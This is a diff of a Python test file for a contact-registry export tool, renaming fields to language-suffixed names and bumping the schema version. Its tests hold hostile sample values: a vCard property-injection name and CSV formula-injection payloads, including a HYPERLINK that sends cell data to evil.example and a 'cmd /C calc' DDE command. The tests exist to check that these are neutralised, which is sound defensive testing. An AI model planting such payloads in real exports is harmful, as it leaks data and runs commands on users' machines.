@@ -31,13 +31,13 @@ ENTRY_KEYS = {
     "kind",
     "name",
     "aliases",
-    "description",
+    "description_fi",
     "description_en",
-    "via",
-    "contacts_via",
+    "via_id",
+    "contacts_via_id",
     "contacts",
 }
-PERSON_KEYS = {"id", "name", "title", "title_en", "phone", "email"}
+PERSON_KEYS = {"id", "name", "title_fi", "title_en", "phone", "email"}
 
 HOSTILE_NAME = 'Mal\nEND:VCARD\nBEGIN:VCARD;x,y\\z "Äijälä"'
 # A registry whose values try formula injection, property injection and cell break-outs.
@@ -170,7 +170,7 @@ def test_csv_one_row_per_entry_contact_pair(run: Invoke, bundled: Registry) -> N
     rows = _rows(result.stdout)
     assert len(rows) == len(export.select(bundled, export.Filters()))
     errin = next(r for r in rows if r["id"] == "errin")
-    assert (errin["via"], errin["contact"], errin["email"]) == (
+    assert (errin["via_id"], errin["contact"], errin["email"]) == (
         "wfeo",
         "Hannu Koponen",
         "hannu.koponen@keskisuomi.fi",
@@ -191,13 +191,13 @@ def test_formula_injection_is_neutralised_unless_raw(
     evil_safe = next(r for r in safe if r["id"] == "sum" and r["contact_id"] == "evil")
     evil_raw = next(r for r in raw if r["id"] == "sum" and r["contact_id"] == "evil")
     assert evil_safe["name"] == "'@SUM(1+1)"
-    assert evil_safe["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert evil_safe["title_fi"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert evil_safe["title_en"] == "'+cmd|' /C calc'!A0"
     assert evil_raw["name"] == "@SUM(1+1)"
-    assert evil_raw["title"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert evil_raw["title_fi"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert evil_raw["title_en"] == "+cmd|' /C calc'!A0"
     good = next(r for r in safe if r["contact_id"] == "good" and r["id"] == "sum")
-    assert good["title"] == "'-2+3"
+    assert good["title_fi"] == "'-2+3"
     tabbed = next(r for r in safe if r["id"] == "tabbed")
     assert tabbed["name"].startswith("'")  # a leading tab is a trigger too
     for row in safe:
@@ -298,12 +298,12 @@ def _tsv_unescape(cell: str) -> str:
 
 def test_tsv_escapes_tabs_and_newlines(run: Invoke, registry_path: Path) -> None:
     _hostile(registry_path)
-    result = run("export", "--format", "tsv", "--raw", "--fields", "id,name,aliases,description")
+    result = run("export", "--format", "tsv", "--raw", "--fields", "id,name,aliases,description_fi")
     lines = result.stdout.split("\n")
     assert lines[-1] == ""
     reader = csv.reader(lines[:-1], delimiter="\t", quoting=csv.QUOTE_NONE)
     table = list(reader)
-    assert table[0] == ["id", "name", "aliases", "description"]
+    assert table[0] == ["id", "name", "aliases", "description_fi"]
     assert all(len(row) == 4 for row in table)
     by_id = {row[0]: [_tsv_unescape(c) for c in row] for row in table[1:]}
     assert by_id["sum"][2] == "tab\there; pipe | and <b>bold</b> [link](http://x)"
@@ -319,7 +319,7 @@ def test_json_export_has_exact_keys(run: Invoke) -> None:
     assert result.exit_code == 0
     doc = json.loads(result.stdout)
     assert set(doc) == EXPORT_KEYS
-    assert doc["schema"] == 1
+    assert doc["schema"] == 2
     assert doc["organisation"] == "Keski-Suomen liitto"
     assert doc["fields"] == list(export.DEFAULT_FIELDS)
     for record in doc["records"]:
